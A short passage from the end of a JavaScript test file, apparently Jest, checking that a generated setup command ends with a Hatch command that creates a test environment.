    expect(setup.endsWith(' && hatch env create test')).toBe(true);
  });
});
